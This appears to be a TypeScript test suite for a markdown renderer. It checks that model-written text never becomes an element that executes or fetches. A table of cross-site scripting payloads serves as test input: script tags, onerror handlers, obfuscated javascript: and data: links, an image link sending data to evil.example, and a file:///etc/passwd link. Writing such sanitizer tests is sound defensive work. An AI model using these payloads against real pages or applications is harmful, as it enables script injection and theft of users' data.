// No text of a model becomes an element that executes or fetches, however it is written.

import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { blockSplitter, MAX_INLINE, MAX_TEXT, parseBlock, safeHref, splitBlocks, visible, type Element, type Node } from "./blocks.ts";

const HARMLESS = new Set(
  "p h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td hr br a span".split(" "),
);

const FENCE = "`".repeat(3);
export const ATTACKS: Record<string, string> = {
  "script element": "<script>alert(1)</script>",
  "picture with a handler": "<img src=x onerror=alert(1)>\n\n![a](http://evil.example/?stolen=1)",
  "javascript link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\u0000script:alert(1))",
  "data link": "[x](data:text/html,<script>alert(1)</script>) [y](data:image/svg+xml;base64,PHN2Zz4=)",
  "encoded scheme": "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](&#x6A;avascript:alert(1))",
  "nested brackets": "[[[a](http://a.example)](javascript:alert(1))](vbscript:x) [![i](javascript:1)](javascript:2)",
  "HTML comment": "<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> -->",
  "autolink with user information": "<https://bank.example@evil.example/> https://bank.example:x@evil.example <javascript:alert(1)>",
  "reordered text": "[https://bank.example](https://evil.example/\u202egnp.exe) \u202ekcatta\u202c \u2066x\u2069",
  "hidden text": "visible\u{e0069}\u{e0067}\u{e006e}\u200b [x](https://a.example/\u{e0041}) \u2063",
  "control characters": "a\u0000b\u001b[31mred\u0007 [x](\u0001javascript:alert(1))",
  "table cells": "| <img src=x onerror=alert(1)> | [x](javascript:1) |\n|---|---|\n| ![a](//evil.example/a.png) | <iframe src=//e> |",
  "fence tricks": `${FENCE}html" onload="alert(1)\n</code></pre><script>alert(1)</script>\n${FENCE}\n~~~\u202e\n<svg onload=alert(1)>`,
  "reference link": "[x][r] ![y][r]\n\n[r]: javascript:alert(1) \"><script>alert(1)</script>",
  "frames and forms": "<iframe srcdoc='<script>1</script>'></iframe><form action=//e><base href=//e><meta http-equiv=refresh>",
  "protocol-relative and file links": "[a](//evil.example) [b](/\\evil.example) [c](file:///etc/passwd) [d](\\\\evil\\x) [e](blob:x)",
  "SVG and math": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg><math href=javascript:alert(1)>",
};

function elementsIn(nodes: Node[]): Element[] {
  return nodes.flatMap((node) => (typeof node === "string" ? [] : [node, ...elementsIn(node.children)]));
}

function textIn(nodes: Node[]): string {
  return nodes.map((node) => (typeof node === "string" ? node : textIn(node.children))).join("");
}

function treeOf(text: string): Node[] {
  return splitBlocks(text).flatMap(parseBlock);
}

function check(text: string): void {
  const tree = treeOf(text);
  for (const element of elementsIn(tree)) {
    assert.ok(HARMLESS.has(element.tag), element.tag);
    assert.deepEqual(Object.keys(element).filter((key) => !["tag", "children", "href", "language", "start", "align"].includes(key)), []);
    assert.equal(element.href !== undefined, element.tag === "a");
    if (element.tag === "a") {
      assert.match(element.href!, /^(https?:\/\/[^@\\]+$|mailto:|#\/|\/(?![/\\]))/);
      assert.equal(visible(element.href!), element.href);
    }
  }
  const shown = textIn(tree);
  assert.equal(visible(shown), shown, "a character that hides others is shown");
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`${name}: nothing executes or fetches`, () => check(attack));
}

test("what cannot be an element is shown as it is written", () => {
  assert.equal(textIn(treeOf("<script>alert(1)</script>")), "<script>alert(1)</script>");
  assert.equal(textIn(treeOf("a <b onclick=x>b</b>")), "a <b onclick=x>b</b>");
  assert.equal(textIn(treeOf("[x](javascript:alert(1))")), "[x](javascript:alert(1))");
  assert.equal(textIn(treeOf("a\u202eb")), "a⟨U+202E⟩b");
  assert.equal(textIn(treeOf("a\u{e0041}b")), "a⟨U+E0041⟩b");
  assert.equal(textIn(treeOf("👩\u200d🔧")), "👩\u200d🔧");
});

test("a picture is a link that says so, and never an element that fetches", () => {
  const [link] = elementsIn(treeOf("![dam](https://a.example/d.png)")).filter((one) => one.tag === "a");
  assert.deepEqual(link, { tag: "a", href: "https://a.example/d.png", children: ["Picture: ", "dam"] });
});

test("links go to the web, to mail and to pages of this UI only", () => {
  const passed = ["https://a.example/x?y=1#z", "http://a.example/", "mailto:ann@a.example", "#/runs/1", "/docs"];
  for (const href of passed) assert.equal(safeHref(href), href);
  const refused = ["javascript:1", " java\nscript:1", "//a.example", "/\\a.example", "https:a.example", "ftp://a", "#x"];
  for (const href of [...refused, "http://u@h/", "https://", "http://a b/", "data:,x", "vbscript:x", "", "x.html"])
    assert.equal(safeHref(href), null, href);
});

test("ordinary markdown is read as it is meant", () => {
  const tree = treeOf("# Dams\n\nA *high* **dam**, `x < y` &amp; ~~more~~.\n\n- [x] one\n- two\n\n3. a\n\n> q\n\n| a | b |\n|--|:-:|\n| 1 | 2 |\n\n---\n\n```py\n1 < 2\n```\n");
  const tags = new Set(elementsIn(tree).map((element) => element.tag));
  for (const tag of ["h3", "p", "em", "strong", "code", "del", "ul", "ol", "li", "blockquote", "table", "th", "td", "hr", "pre"] as const)
    assert.ok(tags.has(tag), tag);
  assert.match(textIn(tree), /x < y & more/);
  assert.equal(elementsIn(tree).find((one) => one.tag === "pre")?.language, "py");
  assert.equal(elementsIn(tree).find((one) => one.tag === "ol")?.start, 3);
  assert.equal(elementsIn(tree).filter((one) => one.align === "center").length, 2);
});

test("very long and deeply nested text is read in bounded work", () => {
  const long = 100_000;
  for (const piece of [">", "[", "[a](", "*a **a ", "_", "`", "- ", "1. ", "> - ", "**a", "*_", "![", "<a ", "<!--", "a@", "|", "\\", "www.", "~"]) {
    const text = piece.repeat(long / piece.length);
    assert.ok(treeOf(text).length > 0, piece);
    check(text);
  }
  const nested = Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n");
  check(nested);
  assert.equal(textIn(treeOf("x".repeat(MAX_TEXT + 5))).length, MAX_TEXT + 5);
  assert.equal(elementsIn(treeOf(`**a** ${"x ".repeat(MAX_INLINE)}`)).some((one) => one.tag === "strong"), false);
});

test("any text is shown without an element that could do harm", () => {
  const piece = fc.oneof(fc.constantFrom(...Object.values(ATTACKS), "\n\n", "- ", "> ", "|", "```\n", "\t", "\r\n", "](", "<"), fc.string());
  fc.assert(fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => check(pieces.join(""))), { numRuns: 200 });
});

test("a text that grows gives the same blocks as the whole text, and keeps those that are finished", () => {
  const text = "# A\n\nOne\ntwo\n\n- x\n- y\n\n  z\n\n```\na\n\nb\n```\n\n| a |\n|---|\n| 1 |\n\nEnd\n===\n\nlast *one*";
  const split = blockSplitter();
  let before: string[] = [];
  for (let length = 1; length <= text.length; length++) {
    const blocks = split(text.slice(0, length));
    assert.equal(blocks.join(""), text.slice(0, length));
    assert.deepEqual(blocks.slice(0, Math.max(0, before.length - 2)), before.slice(0, -2));
    before = blocks;
  }
  assert.deepEqual(before, splitBlocks(text));
  assert.deepEqual(split("other"), ["other"]);
});
